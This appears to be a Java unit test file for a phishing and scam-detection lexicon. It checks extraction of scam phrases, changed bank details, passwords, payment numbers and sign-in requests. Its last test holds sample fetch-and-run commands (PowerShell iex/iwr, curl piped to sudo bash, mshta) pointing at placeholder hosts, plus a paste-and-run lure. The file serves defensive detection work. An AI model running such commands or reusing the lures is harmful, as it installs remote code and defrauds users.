package org.threadguard.heuristics.content;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class LexiconTest {

    @Test
    void phrasesAreFoundOnceAndTheirWordsNotAgain() {
        assertThat(Lexicon.actions("Please see attached and confirm the invoice ASAP."))
                .containsExactly("see attached", "confirm", "invoice", "asap");
    }

    @Test
    void stemsOptionalWordsAndSplitWordsMatch() {
        assertThat(Lexicon.scamTerms("Congratulations, you've won! Click here to claim your prize. Opt-out below."))
                .containsExactly("congratulations", "you ve won", "click here", "claim your", "prize", "opt out");
        assertThat(Lexicon.actions("Bitte die Rechnungen herunterladen; ci-joint le fichier."))
                .containsExactly("rechnungen", "herunterladen", "ci joint", "fichier");
    }

    @Test
    void technicalWordsThatStartLikeActionsAreNotActions() {
        assertThat(Lexicon.actions("The signal is significant; the viewer shows accessories.")).isEmpty();
    }

    @Test
    void bankDetailsAndAnnouncedChanges() {
        assertThat(Lexicon.bankTerms("Our bank details changed: please use the new account number.")).containsExactly(
                "bank details", "new account");
        assertThat(Lexicon.announcesChange("Unsere Bankverbindung hat sich geändert")).isTrue();
        assertThat(Lexicon.announcesChange("Same account as always")).isFalse();
    }

    @Test
    void passwordsAreFoundInManyScriptsAndAFileThatIsPasswordProtectedHasNone() {
        assertThat(Lexicon.password("The password is Xk7-22b, see the zip.")).isEqualTo("Xk7-22b");
        assertThat(Lexicon.password("ご確認ください。\nパスワード：3614")).isEqualTo("3614");
        assertThat(Lexicon.password("パスワードは8821です。")).isEqualTo("8821");
        assertThat(Lexicon.password("解压密码：a7731")).isEqualTo("a7731");
        assertThat(Lexicon.password("Пароль: 5519 для архива")).isEqualTo("5519");
        assertThat(Lexicon.password("비밀번호: 2024ab")).isEqualTo("2024ab");
        assertThat(Lexicon.password("Attached the password-protected zip of drawings rev. C; the password follows "
                + "in a separate mail.")).isEmpty();
        assertThat(Lexicon.password("Die Passwort-geschützte Datei kommt morgen.")).isEmpty();
    }

    @org.junit.jupiter.api.Test
    void paymentDestinationsAreNumbersLabelledAsWhereMoneyGoes() {
        assertThat(Lexicon.paymentNumbers("Bank: Frost Bank\nRouting: 114000093\nAccount: 5021 8874 3390\n"))
                .containsExactly("114000093", "502188743390");
        assertThat(Lexicon.paymentNumbers("Mándame 1,850 dólares por Zelle al 469-555-0139, a nombre de R. S."))
                .containsExactly("4695550139");
        assertThat(Lexicon.paymentNumbers("hey use this zelle for the deposit instead\n\n832-555-0117\n"))
                .containsExactly("8325550117");
        // an invoice number and an amount on the line that speaks of the new bank details are not destinations
        assertThat(Lexicon.paymentNumbers("anbei Rechnung 25-10488 (23.418,00 EUR), bitte auf unsere neue "
                + "Bankverbindung überweisen")).isEmpty();
    }

    @org.junit.jupiter.api.Test
    void requestsToSignInAreFoundInTheEngineLanguages() {
        assertThat(Lexicon.asksToSignIn("Please open the form and sign in with the email and password you use")).isTrue();
        assertThat(Lexicon.asksToSignIn("Bitte melden Sie sich mit Ihren Zugangsdaten an.")).isTrue();
        assertThat(Lexicon.asksToSignIn("Inicia sesión con tu contraseña del portal.")).isTrue();
        assertThat(Lexicon.asksToSignIn("Log in met je instellingsaccount en wachtwoord.")).isTrue();
        assertThat(Lexicon.asksToSignIn("The password for the zip is in Teams; the README is in the main folder."))
                .isFalse();
        assertThat(Lexicon.asksToSignIn("I could not log in yesterday, the VPN was down.")).isFalse();
    }

    @org.junit.jupiter.api.Test
    void commandsThatFetchAndRunCodeAreFound() {
        assertThat(Lexicon.runCommand("Please run this in PowerShell as admin:\n"
                + "iex (iwr -UseBasicParsing https://paste.example.net/raw/k2j3)\nthanks")).startsWith("iex (iwr");
        assertThat(Lexicon.runCommand("curl -fsSL https://get.example.org/fix.sh | sudo bash")).isNotEmpty();
        assertThat(Lexicon.runCommand("mshta https://cdn.example.net/verify.hta")).isNotEmpty();
        assertThat(Lexicon.pasteToRun("Press Windows + R, paste the code (Ctrl+V) and press Enter")).isTrue();
        // commands that fetch nothing, and talk about commands
        assertThat(Lexicon.runCommand("Get-Printer | Where-Object Name -like '*HP*' | Remove-Printer")).isEmpty();
        assertThat(Lexicon.runCommand("sudo apt install uhd-host && uhd_find_devices")).isEmpty();
        assertThat(Lexicon.runCommand("I downloaded the file with curl and ran the installer.")).isEmpty();
    }
}
